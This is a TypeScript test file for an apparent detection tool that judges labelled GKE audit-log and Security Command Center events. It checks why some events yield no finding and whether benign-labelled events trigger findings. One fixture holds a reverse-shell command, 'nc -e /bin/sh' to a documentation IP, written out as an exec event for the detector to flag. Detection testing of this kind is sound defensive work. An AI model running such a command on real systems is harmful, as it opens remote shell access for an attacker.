import { strict as assert } from 'node:assert';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { adminEntry } from '../../local/scenarios/admin-entry.ts';
import { auditEntry } from '../../local/scenarios/audit-entry.ts';
import { sccFinding } from '../../local/scenarios/scc-finding.ts';
import { judge } from '../../scripts/corpus/judge.ts';
import { corpusOf, violationsOf } from '../../scripts/corpus.ts';
import { skipBecause } from '../require.ts';

const EXEC = auditEntry({ verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'cart-0' });

describe('a corpus of labelled events', () => {
  const reasons: Array<[string, RegExp, unknown]> = [
    [
      'is of another log',
      /^not read: the log entry is not of an audit log/,
      { ...EXEC, logName: 'projects/p1/logs/x' },
    ],
    [
      'is a misconfiguration',
      /^not read: .*only threats are evidence/,
      sccFinding({ category: 'WEB_UI_ENABLED', findingClass: 'MISCONFIGURATION' }),
    ],
    ['is no payload', /^not read: not one of /, { a: 1 }],
    [
      'is about what no rule is about',
      /^out of scope: no rule is about v1\.compute\.instances\.stop of compute/,
      adminEntry({ service: 'compute.googleapis.com', method: 'v1.compute.instances.stop' }),
    ],
    [
      'has no body',
      /^no body in logs of GKE: create core\/configmaps/,
      auditEntry({ verb: 'create', resource: 'configmaps', namespace: 'shop', name: 'a' }),
    ],
    [
      'is one of many that are needed',
      /^a baseline or more entries are needed: reconnaissance-burst/,
      auditEntry({ verb: 'list', resource: 'pods', log: 'data_access' }),
    ],
    [
      'is of a group that there is not',
      /^a fragment that GKE would not write: there are no certificatesigningrequests in group core/,
      auditEntry({ verb: 'create', resource: 'certificatesigningrequests', name: 'a' }),
    ],
    ['failed', /^it failed/, auditEntry({ verb: 'create', resource: 'pods', namespace: 'shop', code: 6 })],
    [
      'is ordinary',
      /^ordinary by itself: .* looked at create core\/pods/,
      auditEntry({ verb: 'create', resource: 'pods', namespace: 'shop', request: { spec: { containers: [] } } }),
    ],
  ];
  for (const [what, expected, event] of reasons)
    it(`gives the reason that there is no finding in an event that ${what}`, () => {
      const { findings, because } = judge(event);
      assert.deepEqual(findings, []);
      assert.match(because ?? '', expected);
    });

  it('is judged line by line, and reports a loud finding in a benign event', () => {
    const folder = mkdtempSync(join(tmpdir(), 'firebreak corpus '));
    try {
      const shell = auditEntry({
        verb: 'create',
        resource: 'pods',
        subresource: 'exec',
        namespace: 'shop',
        name: 'a',
        command: 'nc -e /bin/sh 203.0.113.9 4444',
      });
      const lines = (of: readonly unknown[]): string => of.map((one) => `${JSON.stringify(one)}\n`).join('');
      writeFileSync(join(folder, 'events.ndjson'), lines([EXEC, shell, shell]));
      const label = { source: 's', id: 'x' };
      writeFileSync(
        join(folder, 'labels.ndjson'),
        lines([
          { ...label, label: 'benign' },
          { ...label, label: 'malicious' },
          { ...label, label: 'benign', id: 'y' },
        ]),
      );
      const judged = corpusOf(folder);
      assert.deepEqual(
        judged.map(({ label: one, findings }) => [one, findings.length > 0]),
        [
          ['benign', true],
          ['malicious', true],
          ['benign', true],
        ],
      );
      assert.deepEqual(
        violationsOf(judged).map(({ id }) => id),
        ['y'],
      );
    } finally {
      rmSync(folder, { recursive: true });
    }
  });

  it('from elsewhere has no loud benign event above medium, and the sink drops no event with a finding', function () {
    const folder = process.env.FIREBREAK_CORPUS ?? '';
    if (folder === '' || !existsSync(join(folder, 'events.ndjson')))
      skipBecause(this, 'FIREBREAK_CORPUS names no folder with labelled events of others');
    const judged = corpusOf(folder);
    assert.ok(judged.length > 0);
    assert.deepEqual(violationsOf(judged), []);
    for (const { id, findings, because } of judged) assert.ok(findings.length > 0 || because !== undefined, id);
  });
});
